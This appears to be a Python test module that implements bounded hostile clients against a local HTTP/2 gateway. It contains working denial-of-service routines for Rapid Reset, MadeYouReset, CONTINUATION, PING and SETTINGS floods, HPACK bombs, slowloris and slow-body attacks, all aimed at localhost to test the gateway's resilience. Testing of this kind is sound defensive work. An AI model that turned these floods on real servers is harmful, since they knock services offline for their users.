"""What hostile clients do, bounded: each attack ends when the server ends it or when it has done its share.

Used by the tests (does the gateway live, are others served) and by `python -m tests.bench.abuse` (at what cost to
others). An attacker here is not signed in unless `bearer` is set: most of it needs nobody's leave.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

from tests.kit.rawh2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    SETTINGS,
    RawH2,
    frame,
    reset,
    window_update,
)

PATH = "/v1/completions"
BATCH = 50
SOURCE = "127.0.0.2"
"""Attackers' own address: what counts by address must not take innocents for them."""


@dataclass
class Target:
    """Whom to attack. `share`: how much of an attack, in frames or connections; `bearer`: a member's token."""

    port: int
    ca: Path
    share: int = 1_000
    bearer: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    """With one, requests are whole: what resets them comes while they are served."""
    ended: int = 0
    """Connections that the server ended."""
    codes: set[int | None] = field(default_factory=set)
    """What its GOAWAY said."""

    def context(self, *alpn: str) -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=str(self.ca))
        context.set_alpn_protocols(list(alpn) or ["h2"])
        return context

    def request(self, raw: RawH2, stream: int) -> bytes:
        head = raw.head(stream, "POST", PATH, self.bearer.items(), end=not self.body)
        return head + (frame(DATA, END_STREAM, stream, self.body) if self.body else b"")

    async def connect(self) -> RawH2:
        return await RawH2.connect("127.0.0.1", self.port, self.context(), SOURCE)

    async def repeat(self, burst: Callable[[RawH2], bytes], *, per_connection: int = 1_000_000) -> None:
        """Send `burst`s until the share is done, on a new connection whenever the server has ended one."""
        sent = 0
        while sent < self.share:
            async with await self.connect() as raw:
                here = 0
                while sent < self.share and here < per_connection and await raw.send(burst(raw)):
                    sent += BATCH
                    here += BATCH
                    await asyncio.sleep(0)
                if (
                    not raw.closed
                ):  # what it was sent may not be read yet: it is when it answers this, or has ended
                    last = raw.stream()
                    await raw.send(raw.head(last, "GET", "/livez", end=True))
                    with contextlib.suppress(AssertionError):
                        await raw.signal.until(partial(raw.over, last), "an answer or the end")
                if raw.closed:
                    self.ended += 1
                    self.codes.add(raw.goaway)

    @contextlib.asynccontextmanager
    async def held(self, *, tls: bool, alpn: str = "h2") -> AsyncIterator[list[asyncio.StreamWriter]]:
        """As many open connections as the share says."""
        context = self.context(alpn) if tls else None
        writers = []
        try:
            for _ in range(self.share):
                try:
                    _, writer = await asyncio.open_connection(
                        "127.0.0.1", self.port, ssl=context, local_addr=(SOURCE, 0)
                    )
                except OSError:
                    self.ended += 1
                else:
                    writers.append(writer)
            yield writers
        finally:
            for writer in writers:
                writer.transport.abort()
                writer.close()
            await asyncio.gather(*(writer.wait_closed() for writer in writers), return_exceptions=True)


async def rapid_reset(target: Target) -> None:
    """CVE-2023-44487: HEADERS and RST_STREAM, without end."""

    def burst(raw: RawH2) -> bytes:
        streams = [raw.stream() for _ in range(BATCH)]
        return b"".join(target.request(raw, s) + reset(s) for s in streams)

    await target.repeat(burst)


async def many_requests(target: Target) -> None:
    """No trick at all: requests as fast as the server takes them."""
    await target.repeat(lambda raw: b"".join(target.request(raw, raw.stream()) for _ in range(BATCH)))


async def made_you_reset_by_window(target: Target) -> None:
    """CVE-2025-8671: a stream's WINDOW_UPDATE of 0 makes the server reset it (RFC 9113 section 6.9)."""

    def burst(raw: RawH2) -> bytes:
        streams = [raw.stream() for _ in range(BATCH)]
        return b"".join(target.request(raw, s) + window_update(s, 0) for s in streams)

    await target.repeat(burst)


async def made_you_reset_by_overflow(target: Target) -> None:
    """CVE-2025-8671: a window beyond 2^31-1."""

    def burst(raw: RawH2) -> bytes:
        streams = [raw.stream() for _ in range(BATCH)]
        return b"".join(target.request(raw, s) + window_update(s, 0x7FFFFFFF) for s in streams)

    await target.repeat(burst)


async def made_you_reset_by_data(target: Target) -> None:
    """CVE-2025-8671: DATA on a stream that its sender has closed."""

    def burst(raw: RawH2) -> bytes:
        streams = [raw.stream() for _ in range(BATCH)]
        return b"".join(target.request(raw, s) + frame(DATA, 0, s, b"x") for s in streams)

    await target.repeat(burst)


async def continuation_flood(target: Target) -> None:
    """CVE-2024-27316 and its like: a head that never ends."""
    begun: set[int] = set()

    def burst(raw: RawH2) -> bytes:
        first = b""
        if id(raw) not in begun:
            begun.add(id(raw))
            first = frame(HEADERS, 0, 1, b"\x00\x01a\x01b")  # one literal field, and no END_HEADERS
        return first + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * BATCH

    await target.repeat(burst)


async def empty_data_flood(target: Target) -> None:
    """CVE-2019-9518: DATA frames that carry nothing and end nothing."""

    def burst(raw: RawH2) -> bytes:
        head = raw.head(raw.stream(), "POST", PATH, target.bearer.items()) if raw._next == 1 else b""
        return head + frame(DATA, 0, 1) * BATCH

    await target.repeat(burst)


async def ping_flood(target: Target) -> None:
    """CVE-2019-9512: each PING must be answered."""
    await target.repeat(lambda _: frame(PING, 0, 0, b"flooding") * BATCH)


async def settings_flood(target: Target) -> None:
    """CVE-2019-9515: each SETTINGS must be acknowledged."""
    await target.repeat(lambda _: frame(SETTINGS, 0, 0) * BATCH)


async def giant_headers(target: Target) -> None:
    """Fields of 20 KB each, five of them a request."""

    def burst(raw: RawH2) -> bytes:
        stream = raw.stream()
        fields = b"".join(b"\x00\x01%c\x7f\xa1\x9b\x01" % (97 + n) + b"v" * 20_000 for n in range(5))
        parts = [fields[at : at + 16_384] for at in range(0, len(fields), 16_384)]
        frames = [frame(HEADERS, 0, stream, parts[0])]
        frames += [frame(CONTINUATION, 0, stream, part) for part in parts[1:-1]]
        return b"".join([*frames, frame(CONTINUATION, END_HEADERS, stream, parts[-1])])

    await target.repeat(burst)


async def many_headers(target: Target) -> None:
    """A thousand fields a request."""

    def burst(raw: RawH2) -> bytes:
        fields = [(f"x-{number}", "1") for number in range(1_000)]
        return raw.head(raw.stream(), "GET", "/v1/models", fields, end=True)

    await target.repeat(burst)


async def hpack_bomb(target: Target) -> None:
    """CVE-2016-6581: one field of 4 KB put in the table, then named by a byte as often as fits a frame."""
    begun: set[int] = set()

    def burst(raw: RawH2) -> bytes:
        first = b"" if id(raw) in begun else b"\x40\x01a\x7f\x81\x1f" + b"v" * 4_000
        begun.add(id(raw))
        return frame(HEADERS, END_HEADERS | END_STREAM, raw.stream(), first + b"\xbe" * 10_000)

    await target.repeat(burst)


async def idle_tcp(target: Target) -> None:
    async with target.held(tls=False):
        await asyncio.sleep(HOLD_S)


async def half_handshakes(target: Target) -> None:
    """The first bytes of a ClientHello, and no more."""
    async with target.held(tls=False) as writers:
        for writer in writers:
            writer.write(b"\x16\x03\x01\x02\x00\x01")
        await asyncio.sleep(HOLD_S)


async def idle_tls(target: Target) -> None:
    async with target.held(tls=True):
        await asyncio.sleep(HOLD_S)


async def dripping_preface(target: Target) -> None:
    """HTTP/2's own first bytes, one at a time."""
    async with target.held(tls=True) as writers:
        for byte in PREFACE[:10]:
            for writer in writers:
                writer.write(bytes([byte]))
            await asyncio.sleep(HOLD_S / 10)


async def slowloris(target: Target) -> None:
    """HTTP/1.1 heads that go on, a field at a time."""
    async with target.held(tls=True, alpn="http/1.1") as writers:
        for writer in writers:
            writer.write(b"POST /v1/completions HTTP/1.1\r\nhost: x\r\n")
        for number in range(10):
            for writer in writers:
                writer.write(b"x-%d: 1\r\n" % number)
            await asyncio.sleep(HOLD_S / 10)


async def slow_bodies(target: Target) -> None:
    """Bodies that are announced and drip: `share` streams on as many connections as 100 streams each need."""
    async with contextlib.AsyncExitStack() as stack:
        raws = [await stack.enter_async_context(await target.connect()) for _ in range(-(-target.share // 100))]
        streams = []
        for raw in raws:
            numbers = [raw.stream() for _ in range(min(100, target.share))]
            await raw.send(b"".join(raw.head(s, "POST", PATH, target.bearer.items()) for s in numbers))
            streams += [(raw, number) for number in numbers]
        for _ in range(10):
            for raw, number in streams:
                if number not in raw.resets:
                    await raw.send(frame(DATA, 0, number, b" "))
            await asyncio.sleep(HOLD_S / 10)


async def chunk_extensions(target: Target) -> None:
    """A chunked body whose every chunk has an extension of 20 KB (RFC 9112 section 7.1.1)."""
    for _ in range(max(target.share // BATCH, 1)):
        context = target.context("http/1.1")
        reader, writer = await asyncio.open_connection("127.0.0.1", target.port, ssl=context)
        fields = "".join(f"{name}: {value}\r\n" for name, value in target.bearer.items())
        head = f"POST {PATH} HTTP/1.1\r\nhost: x\r\n{fields}transfer-encoding: chunked\r\n\r\n"
        with contextlib.suppress(OSError):
            writer.write(head.encode() + (b"1;x=" + b"e" * 20_000 + b"\r\n \r\n") * 20)
            await writer.drain()
            await asyncio.wait_for(reader.read(), HOLD_S)
            target.ended += 1
        writer.transport.abort()
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()


HOLD_S = 2.0
"""How long an attack that consists in holding something open holds it."""

Attack = Callable[[Target], Awaitable[None]]

RESETS: tuple[Attack, ...] = (
    rapid_reset,
    made_you_reset_by_window,
    made_you_reset_by_overflow,
    made_you_reset_by_data,
)
"""What makes streams end young. The server ends the connection."""

ENDED: tuple[Attack, ...] = (continuation_flood, empty_data_flood, hpack_bomb, chunk_extensions)
"""The server ends the connection for these, too."""

ANSWERED: tuple[Attack, ...] = (giant_headers, many_headers)
"""Each request is refused by itself."""

UNLIMITED: tuple[Attack, ...] = (ping_flood, settings_flood)
"""Neither Granian nor HAProxy 2.6 ends these."""

HOLDS: tuple[Attack, ...] = (idle_tcp, half_handshakes, idle_tls, dripping_preface, slowloris, slow_bodies)
"""What is held open rather than sent."""

EVERY = (*RESETS, *ENDED, *ANSWERED, *UNLIMITED, *HOLDS)
